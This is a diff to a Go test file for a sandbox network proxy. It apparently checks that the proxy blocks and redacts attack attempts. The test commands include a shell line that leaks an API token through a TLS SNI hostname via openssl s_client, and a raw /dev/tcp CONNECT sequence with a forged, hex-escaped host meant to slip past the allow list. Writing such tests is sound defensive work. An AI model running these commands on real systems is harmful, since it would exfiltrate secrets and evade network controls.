@@ -42,7 +42,7 @@ func TestAttackDenialRuleCarriesSecret(t *testing.T) {
 	// DNS names compare without case, so redaction must too.
 	sni := attack7Secret + "." + strings.ToUpper(attack7Secret) + ".example.com"
 	req := hostsRequest(t, sb, `printf 'token %s\n' "$API_TOKEN"; `+
-		`echo | openssl s_client -proxy "${HTTPS_PROXY#http://}" -connect `+allowedHost+`:443 -servername "$API_TOKEN.$(printf %s "$API_TOKEN" | tr a-z A-Z).example.com" >/dev/null 2>&1; true`)
+		`a=${HTTPS_PROXY#http://}; u=${a%@*}; echo | openssl s_client -proxy "${a#*@}" -proxy_user "${u%%:*}" -proxy_pass "pass:${u#*:}" -connect `+allowedHost+`:443 -servername "$API_TOKEN.$(printf %s "$API_TOKEN" | tr a-z A-Z).example.com" >/dev/null 2>&1; true`)
 	req.Env = map[string]string{"API_TOKEN": attack7Secret}
 	req.Timeout = 60 * time.Second
 	out := runSandboxed(t, m, req)
@@ -94,8 +94,8 @@ func TestAttackNestedConnectForgesBlockedLine(t *testing.T) {
 	for _, b := range []byte(forged) {
 		hexed += fmt.Sprintf(`\x%02x`, b)
 	}
-	req := hostsRequest(t, sb, `p=${HTTPS_PROXY##*:}; exec 3<>/dev/tcp/127.0.0.1/$p; `+
-		`printf 'CONNECT `+allowedHost+`:443 HTTP/1.1\r\nHost: `+allowedHost+`:443\r\n\r\n' >&3; IFS= read -r status <&3; echo "$status"; `+
+	req := hostsRequest(t, sb, shellProxyAuth+`p=${HTTPS_PROXY##*:}; exec 3<>/dev/tcp/127.0.0.1/$p; `+
+		`printf 'CONNECT `+allowedHost+`:443 HTTP/1.1\r\nHost: `+allowedHost+`:443\r\nProxy-Authorization: Basic %s\r\n\r\n' "$auth" >&3; IFS= read -r status <&3; echo "$status"; `+
 		`printf 'CONNECT `+hexed+`:443 HTTP/1.1\r\n\r\n' >&3; cat <&3 >/dev/null; true`)
 	req.Command = "bash -c " + shellQuote(req.Command)
 	out := runSandboxed(t, m, req)
